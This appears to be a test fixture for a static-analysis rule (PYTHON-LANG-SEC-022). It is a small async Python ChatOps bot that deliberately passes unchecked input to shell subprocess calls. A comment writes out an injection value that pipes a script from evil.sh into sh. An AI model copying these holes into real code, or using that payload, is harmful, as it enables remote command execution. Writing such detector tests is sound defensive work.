"""ChatOps bot: `!run <service> <action>` restarts or inspects services on the host."""

import asyncio
from asyncio import create_subprocess_shell as shell

ALLOWED_ACTIONS = {"status", "restart"}


async def on_message(message):
    _, service, action = message.content.split(maxsplit=2)
    if action not in ALLOWED_ACTIONS:
        return "unknown action"
    # service = "nginx; curl evil.sh | sh" is not checked.
    proc = await asyncio.create_subprocess_shell(  # expect: PYTHON-LANG-SEC-022
        f"systemctl {action} {service}",
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.STDOUT,
    )
    out, _ = await proc.communicate()
    return out.decode()


async def tail_log(unit, lines):
    proc = await shell("journalctl -u " + unit + " -n " + str(lines), stdout=asyncio.subprocess.PIPE)  # expect: PYTHON-LANG-SEC-022
    return (await proc.communicate())[0]


async def run_snippet(snippet):
    proc = await asyncio.create_subprocess_exec("bash", "-c", snippet, stdout=asyncio.subprocess.PIPE)  # expect: PYTHON-LANG-SEC-022
    return (await proc.communicate())[0]


async def run_strict(snippet):
    proc = await asyncio.create_subprocess_exec("/bin/sh", "-e", "-c", snippet)  # expect: PYTHON-LANG-SEC-022
    return await proc.wait()


if __name__ == "__main__":
    import sys

    asyncio.run(asyncio.create_subprocess_shell(sys.argv[1]))  # expect: PYTHON-LANG-SEC-022
